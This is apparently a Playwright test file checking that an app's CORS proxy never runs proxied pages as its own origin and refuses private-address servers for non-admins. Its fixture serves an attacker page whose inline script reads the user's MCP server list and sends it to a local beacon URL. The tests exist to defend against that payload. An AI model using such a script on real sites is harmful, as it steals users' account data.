// /cors-proxy in a real browser: a proxied page never runs as Hearth's origin, and a member's
// server on a private address is refused with words that say why.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { addUser, signIn, watchForErrors } from './fixtures';
import { startEverything } from './mcp-peers';

/** An attacker's page: its script marks the title and calls home with what it can read. */
async function startAttacker() {
  const beacons: string[] = [];
  const server = http.createServer((req, res) => {
    if (req.url?.startsWith('/beacon')) {
      beacons.push(req.url);
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      return;
    }
    const home = `http://127.0.0.1:${(server.address() as AddressInfo).port}/beacon`;
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(`<!doctype html><title>proxied</title><script>
      document.title = 'pwned';
      fetch('/v1/me/mcp-servers').then(r => r.text()).then(t => fetch('${home}?' + encodeURIComponent(t)));
      fetch('${home}?ran');
    </script>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/page`;
  return { url, beacons, stop: () => new Promise((resolve) => server.close(resolve)) };
}

test('a proxied page opened in a tab, a frame or by fetch runs no script on Hearth', async ({ page }) => {
  const attacker = await startAttacker();
  try {
    await signIn(page);
    const proxied = `/cors-proxy?url=${encodeURIComponent(attacker.url)}`;

    // A link followed (say, from a chat answer) is a navigation: refused.
    const opened = await page.goto(proxied);
    expect(opened!.status()).toBe(403);
    expect(opened!.headers()['content-type']).toContain('application/json');
    await expect(page).not.toHaveTitle('pwned');

    // In a frame on Hearth's own page: refused too.
    await page.goto('/');
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }, proxied);
    await page.waitForTimeout(500);

    // Fetched the way the MCP client does: the bytes arrive, as a download, never as HTML.
    const fetched = await page.evaluate(async (src) => {
      const r = await fetch(src, { headers: { 'hearth-proxy-request': '1' } });
      return { status: r.status, type: r.headers.get('content-type'), disposition: r.headers.get('content-disposition'), csp: r.headers.get('content-security-policy') };
    }, proxied);
    expect(fetched).toEqual({ status: 200, type: 'application/octet-stream', disposition: 'attachment', csp: "sandbox; default-src 'none'" });

    await page.waitForTimeout(500);
    expect(attacker.beacons, 'the attacker page ran nowhere').toEqual([]);
    await expect(page).not.toHaveTitle('pwned');
  } finally {
    await attacker.stop();
  }
});

test("a member's server on a loopback address is refused through the proxy, and the page says why", async ({ page }) => {
  const everything = await startEverything();
  const problems = watchForErrors(page);
  try {
    addUser('e2e-proxy-member', 'member', 'e2e-proxy-password');
    await page.goto('/login');
    await expect(page.locator('body[data-hydrated="true"]')).toBeAttached();
    await page.getByLabel('Username').fill('e2e-proxy-member');
    await page.getByLabel('Password').fill('e2e-proxy-password');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page).toHaveURL(/\/$/);
    await page.getByRole('navigation').getByRole('link', { name: 'MCP servers' }).click();

    await page.getByRole('button', { name: 'Add MCP server' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Name').fill('Private');
    await dialog.getByLabel('Server URL').fill(everything.url);
    await dialog.getByLabel('Use proxy').setChecked(true);
    await dialog.getByRole('button', { name: 'Save' }).click();
    await expect(dialog).toBeHidden();
    const card = page.getByTestId('mcp-server').filter({ hasText: 'Private' });
    await card.getByRole('button', { name: 'Connect' }).click();
    await expect(card).toContainText('cors_proxy.allow');
    await expect(card).toContainText('only for admins');
    expect(problems.filter((p) => !p.includes('403'))).toEqual([]);
  } finally {
    await everything.stop();
  }
});
